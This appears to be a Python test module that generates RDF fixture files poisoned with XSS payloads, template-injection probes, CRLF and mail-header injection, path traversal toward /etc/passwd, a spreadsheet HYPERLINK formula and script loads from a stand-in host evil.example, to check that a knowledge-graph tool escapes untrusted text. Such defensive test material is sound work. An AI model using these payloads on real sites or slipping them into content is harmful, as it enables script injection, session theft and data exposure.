"""Cases that mean harm: whatever a submission can say in words is markup, a script, a template, an address that runs, or an odd character."""

from __future__ import annotations

from itertools import cycle
from pathlib import Path

import pyoxigraph as ox

from sg2kg.terms import PREFIXES, SG2
from support import ROOT

MARKER = "pwned"
"""What every script here would set, call or ask for."""
PAYLOADS = (
    f'<script id="{MARKER}">window.{MARKER}=1;alert(1)</script>',
    f'"><img src=x onerror="window.{MARKER}=1">',
    f"'><svg onload='window.{MARKER}=1'>",
    f'" onmouseover="window.{MARKER}=1" autofocus onfocus="window.{MARKER}=1" style="position:fixed" x="',
    f"' onmouseover='window.{MARKER}=1' x='",
    "{{7*191}} {% for x in y %} {#comment ${7*191} #{7*191} <%= 7*191 %>",
    f'</title></textarea></script><script src="//evil.example/{MARKER}.js"></script>',
    f"]]>--><!-- <b onclick=window.{MARKER}=1>x</b>",
    f'<a href="javascript:window.{MARKER}=1">x</a><base href="//evil.example/"><meta http-equiv=refresh content="0;url=//evil.example/">',
    "\u202eesrever\u202c \u2066isolated\u2069 \u200b\ufeff\u0007\u001b[31m zalgo\u0301\u0301",
    "%00 \\u0000 &#0; &#x3c;script&#x3e; &lt;script&gt; %3Cscript%3E",
    f"[x](javascript:window.{MARKER}=1) ![x](x onerror=window.{MARKER}=1) `<script>`",
    '=HYPERLINK("http://evil.example/","x") | @SUM(1) \u2028\u2029 \r\nSet-Cookie: evil=1\r\n\r\n<script>',
    f'<iframe srcdoc="&lt;script&gt;parent.{MARKER}=1&lt;/script&gt;"></iframe><form action="//evil.example/"><button formaction="javascript:1">',
    f'hx-get="/x" <div hx-on:click="window.{MARKER}=1" hx-get="//evil.example/" hx-trigger="load" data-hx-get="/x">',
)
"""What stands in the place of, or behind, every text."""
ADDRESSES = (
    f"javascript:window.{MARKER}=1//",
    f"JaVaScRiPt:window.{MARKER}=1",
    f"data:text/html,<script>window.{MARKER}=1</script>",
    f"vbscript:{MARKER}",
    "//evil.example/",
    "\\\\evil.example\\x",
    f'https://example.org/"onclick="window.{MARKER}=1',
    "https://example.org/<script>alert(1)</script>",
    f"\tjavascript:window.{MARKER}=1",
    "http://[::1",
    "https://user:secret@evil.example:99999/",
    "https://",
)
"""What stands where the address of a source should be."""
THINGS = (
    f"javascript:window.{MARKER}=1",
    f"data:text/html,%3Cscript%3Ewindow.{MARKER}=1%3C/script%3E",
    "https://w3id.org/sg2kg/case/../../../etc/passwd",
    "https://w3id.org/sg2kg///evil.example/x",
    "https://w3id.org/sg2kg/case/x'onclick='alert(1)",
    "https://w3id.org/sg2kg/framework#M-ECO'onclick='alert(1)",
    "https://w3id.org/sg2kg/ontology#..",
    "https://w3id.org/sg2kg/case/evil?lang=zh-Hant&x=1#y?z",
    "https://w3id.org/sg2kg/case/%3Cscript%3E",
    "https://w3id.org/sg2kg/case/evil%0d%0aSet-Cookie:x=1",
    "urn:x:'\u00e9\u4e2d;a=b&c",
    "mailto:x@example.org?subject=%0aBcc:y@example.org",
)
"""Names of things; all of them are well-formed IRIs."""
NAME = "evil'(x)&y;z"
"""The short name of a case; every sign of it may stand in an IRI."""
_KEPT = ("2", "1", "0")
_STRING = PREFIXES["xsd"] + "string"


def write(folder: Path) -> None:
    """Puts the cases into a folder."""
    for number, (example, name) in enumerate((("mapped-example", "evil-plain"), ("evaluated-example", NAME), ("registered-example", "evil-bare"))):
        quads = _poisoned(ROOT / "case_data" / "fictitious" / f"{example}.ttl", example, name, number * 5)
        (folder / f"evil-{number}.nt").write_text("".join(f"{q.triple} .\n" for q in quads), encoding="utf-8")
    (folder / "more.nt").write_text("".join(f"{t} .\n" for t in _more()), encoding="utf-8")


def _poisoned(path: Path, example: str, name: str, start: int) -> list[ox.Quad]:
    """A fictitious case under another name, with poison in all that it says."""
    text = path.read_text(encoding="utf-8")
    payloads = cycle([*PAYLOADS[start:], *PAYLOADS[:start]])
    addresses = cycle(ADDRESSES)

    def renamed(node: ox.NamedNode) -> ox.NamedNode:
        return ox.NamedNode(node.value.replace(f"/case/{example}", f"/case/{name}"))

    def poisoned(quad: ox.Quad) -> ox.Quad:
        subject = renamed(quad.subject) if isinstance(quad.subject, ox.NamedNode) else quad.subject
        value = quad.object
        if isinstance(value, ox.NamedNode):
            value = renamed(value)
            if quad.predicate.value.endswith("/license"):
                value = ox.NamedNode(THINGS[0])
        elif isinstance(value, ox.Literal):
            if quad.predicate.value == SG2.address:
                value = ox.Literal(next(addresses), datatype=value.datatype)
            elif value.language:
                value = ox.Literal(f"{value.value} {next(payloads)}", language=value.language)
            elif value.datatype.value == _STRING:
                value = ox.Literal(value.value if value.value.startswith(_KEPT) and start else f"{value.value}{next(payloads)}")
        return ox.Quad(subject, quad.predicate, value)

    return [poisoned(q) for q in ox.parse(text, format=ox.RdfFormat.TURTLE)]


def _more() -> list[ox.Triple]:
    """Odd things that point to a case, bear labels, and speak of terms that are not theirs."""
    label, see, kind = (ox.NamedNode(PREFIXES[p] + n) for p, n in (("rdfs", "label"), ("rdfs", "seeAlso"), ("rdf", "type")))
    case = ox.NamedNode(PREFIXES["case"] + "evil-plain")
    found = []
    for thing, payload in zip(map(ox.NamedNode, THINGS), cycle(PAYLOADS), strict=False):
        found += [
            ox.Triple(case, see, thing),
            ox.Triple(thing, label, ox.Literal(payload, language="en")),
            ox.Triple(thing, see, case),
            ox.Triple(thing, kind, ox.NamedNode(SG2.Source)),
        ]
    for of, prop in (("fw", "M-ECO"), ("fw", "DIM-1"), ("sg2", "Case"), ("sg2x", "money")):
        for name in ("altLabel", "prefLabel", "definition", "note", "example", "scopeNote"):
            for lang, payload in zip(("en", "zh-hans", "zh-hant"), PAYLOADS, strict=False):
                found.append(ox.Triple(ox.NamedNode(PREFIXES[of] + prop), ox.NamedNode(PREFIXES["skos"] + name), ox.Literal(payload, language=lang)))
    deep: ox.NamedNode | ox.BlankNode = case
    for number, payload in enumerate(PAYLOADS):
        inner = ox.BlankNode(f"b{number}")
        found += [ox.Triple(deep, see, inner), ox.Triple(inner, label, ox.Literal(payload))]
        deep = inner
    return found
